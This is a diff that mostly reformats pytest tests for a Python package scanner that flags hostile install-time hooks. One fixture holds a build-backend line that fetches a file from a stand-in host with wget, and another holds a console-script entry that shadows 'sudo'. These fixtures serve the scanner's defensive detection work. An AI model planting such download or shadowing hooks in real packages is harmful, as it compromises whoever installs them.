@@ -23,7 +23,9 @@ def _worst(findings: list[Finding], rule: str) -> Severity | None:
 
 @pytest.mark.parametrize("case", CASES, ids=lambda c: c.rule)
 def test_hostile_setup_py_fires_the_rule(case: Case, tmp_path: Path) -> None:
-    sdist = make_sdist(tmp_path, "demo", "1.0", {"setup.py": setup_py(case.hostile, tmp_path / "c")})
+    sdist = make_sdist(
+        tmp_path, "demo", "1.0", {"setup.py": setup_py(case.hostile, tmp_path / "c")}
+    )
     findings = scan_path(sdist)
     worst = _worst(findings, case.rule)
     assert worst is not None and worst >= Severity.parse(case.minimum), findings
@@ -36,7 +38,9 @@ def test_hostile_setup_py_fires_the_rule(case: Case, tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("case", CASES, ids=lambda c: c.rule)
 def test_benign_near_miss_stays_below_low(case: Case, tmp_path: Path) -> None:
-    sdist = make_sdist(tmp_path, "demo", "1.0", {"setup.py": setup_py(case.near_miss, tmp_path / "c")})
+    sdist = make_sdist(
+        tmp_path, "demo", "1.0", {"setup.py": setup_py(case.near_miss, tmp_path / "c")}
+    )
     findings = scan_path(sdist)
     assert all(f.severity < Severity.LOW for f in _rule(findings, case.rule)), findings
     assert all(f.severity < Severity.MEDIUM for f in findings), findings
@@ -50,9 +54,13 @@ def test_every_rule_is_documented() -> None:
 
 
 def test_build_tools_are_info_and_computed_commands_low(tmp_path: Path) -> None:
-    body = ("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'cython'])\n"
-            "cmd = [sys.argv[1]]\nsubprocess.call(cmd)\n")
-    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", {"setup.py": setup_py(body, tmp_path)}))
+    body = (
+        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'cython'])\n"
+        "cmd = [sys.argv[1]]\nsubprocess.call(cmd)\n"
+    )
+    findings = scan_path(
+        make_sdist(tmp_path, "demo", "1.0", {"setup.py": setup_py(body, tmp_path)})
+    )
     severities = sorted(f.severity for f in _rule(findings, "hook/process-exec"))
     assert severities == [Severity.INFO, Severity.LOW]
 
@@ -74,16 +82,25 @@ def test_setup_imports_are_install_time_and_package_code_is_lowered(tmp_path: Pa
 def test_in_tree_backend_is_reported_and_scanned(tmp_path: Path) -> None:
     files = {
         "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\n"
-                          "backend-path = ['_build']\n",
+        "backend-path = ['_build']\n",
         "_build/backend.py": "import os\nos.system('wget https://example.invalid/a -O /tmp/a')\n",
     }
     findings = scan_path(make_sdist(tmp_path, "demo", "1.0", files))
     assert _worst(findings, "hook/custom-backend") is Severity.LOW
     assert _worst(findings, "hook/download-exec") is Severity.HIGH
-    near = {"pyproject.toml": "[build-system]\nrequires = ['setuptools']\n"
-                              "build-backend = 'setuptools.build_meta'\n"}
-    assert _rule(scan_path(make_sdist(tmp_path / "n", "demo", "1.0", near)) if
-                 (tmp_path / "n").mkdir() is None else [], "hook/custom-backend") == []
+    near = {
+        "pyproject.toml": "[build-system]\nrequires = ['setuptools']\n"
+        "build-backend = 'setuptools.build_meta'\n"
+    }
+    assert (
+        _rule(
+            scan_path(make_sdist(tmp_path / "n", "demo", "1.0", near))
+            if (tmp_path / "n").mkdir() is None
+            else [],
+            "hook/custom-backend",
+        )
+        == []
+    )
 
 
 def test_pth_with_code_fires_and_path_entries_do_not(tmp_path: Path) -> None:
@@ -95,23 +112,34 @@ def test_pth_with_code_fires_and_path_entries_do_not(tmp_path: Path) -> None:
     assert _rule(scan_path(make_wheel(tmp_path / "n", "demo", "1.0", plain)), "hook/pth-exec") == []
     shim = {"shim.pth": "import demo_shim\n"}
     (tmp_path / "s").mkdir()
-    assert _worst(scan_path(make_wheel(tmp_path / "s", "demo", "1.0", shim)),
-                  "hook/pth-exec") is Severity.MEDIUM
+    assert (
+        _worst(scan_path(make_wheel(tmp_path / "s", "demo", "1.0", shim)), "hook/pth-exec")
+        is Severity.MEDIUM
+    )
 
 
 def test_console_script_shadowing(tmp_path: Path) -> None:
     hostile = {"{info}/entry_points.txt": "[console_scripts]\nsudo = demo:main\ndemo = demo:cli\n"}
-    findings = _rule(scan_path(make_wheel(tmp_path, "demo", "1.0", hostile)),
-                     "hook/console-script-shadow")
+    findings = _rule(
+        scan_path(make_wheel(tmp_path, "demo", "1.0", hostile)), "hook/console-script-shadow"
+    )
     assert [f.evidence for f in findings] == ["sudo"] and findings[0].severity is Severity.HIGH
     (tmp_path / "p").mkdir()
     own = {"{info}/entry_points.txt": "[console_scripts]\npip3 = pip:main\n"}
-    assert _rule(scan_path(make_wheel(tmp_path / "p", "pip", "1.0", own)),
-                 "hook/console-script-shadow") == []
+    assert (
+        _rule(
+            scan_path(make_wheel(tmp_path / "p", "pip", "1.0", own)), "hook/console-script-shadow"
+        )
+        == []
+    )
     (tmp_path / "s").mkdir()
-    setup = "from setuptools import setup\nsetup(entry_points={'console_scripts': ['ls = demo:m']})\n"
-    assert _rule(scan_path(make_sdist(tmp_path / "s", "demo", "1.0", {"setup.py": setup})),
-                 "hook/console-script-shadow")
+    setup = (
+        "from setuptools import setup\nsetup(entry_points={'console_scripts': ['ls = demo:m']})\n"
+    )
+    assert _rule(
+        scan_path(make_sdist(tmp_path / "s", "demo", "1.0", {"setup.py": setup})),
+        "hook/console-script-shadow",
+    )
 
 
 def test_native_binary_in_sdist(tmp_path: Path) -> None:
@@ -120,7 +148,10 @@ def test_native_binary_in_sdist(tmp_path: Path) -> None:
     assert _worst(findings, "hook/native-binary") is Severity.MEDIUM
     (tmp_path / "n").mkdir()
     text = {"helper": "#!/bin/sh\necho hi\n", "MZ-notes": "MZ is not enough\n"}
-    assert _rule(scan_path(make_sdist(tmp_path / "n", "demo", "1.0", text)), "hook/native-binary") == []
+    assert (
+        _rule(scan_path(make_sdist(tmp_path / "n", "demo", "1.0", text)), "hook/native-binary")
+        == []
+    )
 
 
 def test_unparsable_setup_py_is_not_called_safe(tmp_path: Path) -> None:
@@ -164,5 +195,7 @@ def test_unsafe_members_are_findings_and_scan_continues(tmp_path: Path) -> None:
         bundle.addfile(info, io.BytesIO(data))
     findings = scan_path(path)
     unsafe = _rule(findings, "archive/unsafe-member")
-    assert unsafe and unsafe[0].severity is Severity.HIGH and unsafe[0].evidence == "demo-1.0/escape"
+    assert (
+        unsafe and unsafe[0].severity is Severity.HIGH and unsafe[0].evidence == "demo-1.0/escape"
+    )
     assert _rule(findings, "hook/webhook")
